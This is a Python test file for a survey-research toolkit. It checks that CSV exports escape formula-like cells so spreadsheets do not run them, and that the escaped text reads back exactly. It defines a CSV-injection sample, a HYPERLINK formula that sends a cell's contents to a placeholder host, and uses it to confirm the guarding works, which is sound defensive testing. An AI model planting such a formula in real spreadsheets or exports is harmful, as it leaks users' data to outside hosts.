"""CSV files written for people keep a respondent's "=..." text as text, and read back exactly.

A spreadsheet runs a CSV cell starting with =, +, -, @ (or a tab / carriage return) as a
formula; :mod:`cxresearch.csv_text` marks such cells with an apostrophe and the importers
undo it, so follow-up lists, coder sheets and disagreement files are safe to open and
lose nothing on the way back.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from cxresearch.csv_text import FORMULA_STARTS, guard, read_csv, unguard, write_csv
from cxresearch.journey.loop import export_list, import_list, loop_files, read_status
from cxresearch.params import load_params
from cxresearch.qual.codebook import codebook_from_mapping
from cxresearch.qual.normalise import BaseForms
from cxresearch.qual.roundtrip import read_decisions
from cxresearch.qual.sheets import CODE_PREFIX, read_sheet, write_sheets
from tests.unit.test_journey_loop import DEMO, PARAMS, closed, expected_items

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"click")'

# Text that starts like a formula, with an apostrophe, or not at all.
TEXT = st.one_of(
    st.text(max_size=12),
    st.tuples(st.sampled_from([*FORMULA_STARTS, "'", "''"]), st.text(max_size=8)).map("".join),
)


@given(TEXT)
def test_guard_is_undone_exactly_and_never_starts_like_a_formula(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(FORMULA_STARTS)


def _cells(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


def test_a_written_file_has_no_formula_cell_and_reads_back_the_same(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "comment": [PAYLOAD, "-2 tähteä", "@user", "'lainaus", "hyvä", None],
            "score": [1, 2, 3, 4, 5, 6],
        }
    )
    path = tmp_path / "list.csv"
    write_csv(frame, path)
    cells = [c for row in _cells(path)[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + PAYLOAD in cells and "''lainaus" in cells
    back = read_csv(path)
    assert back["comment"].tolist() == [PAYLOAD, "-2 tähteä", "@user", "'lainaus", "hyvä", ""]
    assert back["score"].tolist() == ["1", "2", "3", "4", "5", "6"]


def test_followup_list_guards_comments_and_keeps_owners_text(tmp_path: Path) -> None:
    root = tmp_path
    (root / "data").mkdir()
    (root / "params").mkdir()
    rows = pd.read_csv(DEMO / "responses.csv", dtype=str, keep_default_na=False)
    rows = rows[rows["client"] == "kotiposti"]
    rows.to_csv(root / "data" / "responses.csv", index=False)
    shutil.copy(DEMO / "contacts" / "kotiposti.csv", root / "data" / "contacts.csv")
    params_path = root / "params" / "kotiposti.yaml"
    params_path.write_text(PARAMS, encoding="utf-8")
    first_id = expected_items(root)["response_id"].iloc[0]
    rows.loc[rows["response_id"] == first_id, "comment"] = PAYLOAD
    rows.to_csv(root / "data" / "responses.csv", index=False)
    csv_path = export_list(params_path)[0]
    raw = _cells(csv_path)
    header = raw[0]
    by_id = {row[header.index("response_id")]: row for row in raw[1:]}
    assert by_id[first_id][header.index("comment")] == "'" + PAYLOAD
    assert not [c for row in raw[1:] for c in row if c.startswith(FORMULA_STARTS)]
    # An owner writes an action that starts with "-" and saves the list as CSV (a
    # spreadsheet keeps the apostrophe it shows); the stored action is the owner's text.
    listed = read_csv(csv_path)
    assert listed.loc[listed["response_id"] == first_id, "comment"].item() == PAYLOAD
    update = closed(listed, 1)
    update.loc[update.index[0], "action"] = "-soitettu, =hyvitetty"
    write_csv(update, root / "update.csv")
    import_list(root / "update.csv", params_path=params_path)
    status = read_status(loop_files(load_params(params_path)).status)
    stored = status.set_index("response_id").loc[update["response_id"].iloc[0], "action"]
    assert stored == "-soitettu, =hyvitetty"


def test_coder_sheet_and_decisions_round_trip_formula_like_text(tmp_path: Path) -> None:
    book = codebook_from_mapping(
        {"name": "t", "codes": [{"code": "price", "label": {"fi": "Hinta", "en": "Price"}}]},
        forms=BaseForms(),
    )
    texts = pd.Series({"r1": PAYLOAD, "r2": "+358 hinta", "r3": "ok"})
    written = write_sheets(texts, book, ["anna"], tmp_path, sample=3, seed=1, formats=["csv"])
    path = written["anna"][0]
    raw = _cells(path, encoding="utf-8-sig")
    assert not [c for row in raw[1:] for c in row if c.startswith(FORMULA_STARTS)]
    table = read_csv(path, encoding="utf-8-sig")
    assert dict(zip(table["response_id"], table["comment"], strict=True)) == texts.to_dict()
    table[CODE_PREFIX + "price"] = "x"
    table["note"] = "-tarkista"
    write_csv(table, path, encoding="utf-8-sig")
    sheet = read_sheet(path, book)
    assert sheet.comments == texts.to_dict()
    assert set(sheet.notes.values()) == {"-tarkista"}
    decisions = pd.DataFrame({"response_id": ["-r1"], "code": ["price"], "decision": ["1"]})
    write_csv(decisions, tmp_path / "disagreements.csv")
    assert read_decisions(tmp_path / "disagreements.csv") == {("-r1", "price"): True}
